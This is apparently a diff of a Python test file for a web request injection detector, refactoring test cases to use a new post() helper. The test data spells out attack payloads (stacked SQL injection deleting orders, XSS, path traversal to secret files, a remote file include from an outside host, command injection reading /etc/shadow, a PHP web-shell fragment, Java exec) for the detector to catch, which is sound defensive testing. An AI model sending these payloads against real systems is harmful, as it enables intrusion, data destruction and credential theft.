@@ -32,6 +32,10 @@ def request(
     return RequestView(method, target, HEADERS + headers + extra, body)
 
 
+def post(body: bytes, content_type: str) -> RequestView:
+    return request(body=body, content_type=content_type, method="POST")
+
+
 def verdict(view: RequestView, policy: Policy | None = None) -> Verdict:
     return DETECTOR.inspect(view, policy or Policy())
 
@@ -62,38 +66,25 @@ STACKED = "1;DELETE FROM orders--"
         (request(headers=(("X-Customer", SQLI),)), "header:x-customer"),
         (request(headers=(("Cookie", f"theme=dark; sid={quote(SQLI)}"),)), "cookie:sid"),
         (
-            request(
-                body=json.dumps({"a": {"b": [1, SQLI]}}).encode(),
-                content_type="application/json",
-                method="POST",
-            ),
+            post(json.dumps({"a": {"b": [1, SQLI]}}).encode(), "application/json"),
             "body:json:a.b[1]",
         ),
         (
-            request(
-                body=f"q={quote(SQLI)}".encode(),
-                content_type="application/x-www-form-urlencoded",
-                method="POST",
-            ),
+            post(f"q={quote(SQLI)}".encode(), "application/x-www-form-urlencoded"),
             "body:form:q",
         ),
         (
-            request(
-                body=multipart("comment", SQLI)[0],
-                content_type=multipart("c", "")[1],
-                method="POST",
-            ),
+            post(multipart("comment", SQLI)[0], multipart("c", "")[1]),
             "body:multipart:comment",
         ),
         (
-            request(
-                body=f"<order><note>{SQLI.replace('<', '&lt;')}</note></order>".encode(),
-                content_type="application/xml",
-                method="POST",
+            post(
+                f"<order><note>{SQLI.replace('<', '&lt;')}</note></order>".encode(),
+                "application/xml",
             ),
             "body:xml:note",
         ),
-        (request(body=SQLI.encode(), content_type="text/plain", method="POST"), "body"),
+        (post(SQLI.encode(), "text/plain"), "body"),
     ],
 )
 def test_a_payload_is_found_in_every_place_and_named_by_its_location(
@@ -107,11 +98,11 @@ def test_a_payload_is_found_in_every_place_and_named_by_its_location(
 
 def test_xml_attributes_and_multipart_file_names_are_inspected() -> None:
     xml = b'<?xml version="1.0"?><a href="javascript:alert(document.cookie)">x</a>'
-    result = verdict(request(body=xml, content_type="text/xml", method="POST"))
+    result = verdict(post(xml, "text/xml"))
     assert result.blocked
     assert "body:xml:a@href" in {hit.location for hit in result.hits}
     body, kind = multipart("avatar", "GIF89a", filename="shell.php")
-    result = verdict(request(body=body, content_type=kind, method="POST"))
+    result = verdict(post(body, kind))
     assert result.blocked
     assert result.decisive is not None
     assert result.decisive.location == "body:multipart:avatar:filename"
@@ -176,19 +167,11 @@ def test_an_injection_is_caught_through_every_decoding(payload: str) -> None:
         ("sqli", request(headers=(("Cookie", "cart=" + quote(quote(STACKED))),))),
         (
             "sqli",
-            request(
-                body=b'{"filter": {"$where": "sleep(5000)"}}',
-                content_type="application/json",
-                method="POST",
-            ),
+            post(b'{"filter": {"$where": "sleep(5000)"}}', "application/json"),
         ),
         (
             "xss",
-            request(
-                body=b'{"bio": "\\u003csvg onload=alert(1)\\u003e"}',
-                content_type="application/json",
-                method="POST",
-            ),
+            post(b'{"bio": "\\u003csvg onload=alert(1)\\u003e"}', "application/json"),
         ),
         (
             "xss",
@@ -196,20 +179,15 @@ def test_an_injection_is_caught_through_every_decoding(payload: str) -> None:
         ),
         (
             "lfi",
-            request(
-                body=multipart("f", "x", filename="..\\..\\..\\windows\\win.ini")[0],
-                content_type=multipart("f", "")[1],
-                method="POST",
+            post(
+                multipart("f", "x", filename="..\\..\\..\\windows\\win.ini")[0],
+                multipart("f", "")[1],
             ),
         ),
         ("lfi", request("/api/files?name=%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron")),
         (
             "rfi",
-            request(
-                body=b"template=http://198.51.100.7/x.txt?",
-                content_type="application/x-www-form-urlencoded",
-                method="POST",
-            ),
+            post(b"template=http://198.51.100.7/x.txt?", "application/x-www-form-urlencoded"),
         ),
         (
             "rce",
@@ -218,10 +196,8 @@ def test_an_injection_is_caught_through_every_decoding(payload: str) -> None:
         ("rce", request("/api/ping?host=" + quote("127.0.0.1%0a/bin/cat /etc/shadow"))),
         (
             "php",
-            request(
-                body=b'<?xml version="1.0"?><a>&lt;?php system($_GET[c]); ?&gt;</a>',
-                content_type="application/xml",
-                method="POST",
+            post(
+                b'<?xml version="1.0"?><a>&lt;?php system($_GET[c]); ?&gt;</a>', "application/xml"
             ),
         ),
         (
@@ -236,11 +212,7 @@ def test_an_injection_is_caught_through_every_decoding(payload: str) -> None:
         ),
         (
             "java",
-            request(
-                body=b'{"q": "T(java.lang.Runtime).getRuntime().exec(\'id\')"}',
-                content_type="application/json",
-                method="POST",
-            ),
+            post(b'{"q": "T(java.lang.Runtime).getRuntime().exec(\'id\')"}', "application/json"),
         ),
         ("protocol", request("/api/items?next=" + quote("/\r\nSet-Cookie: sid=evil"))),
         ("protocol", RequestView("TRACE", "/api/items", HEADERS)),
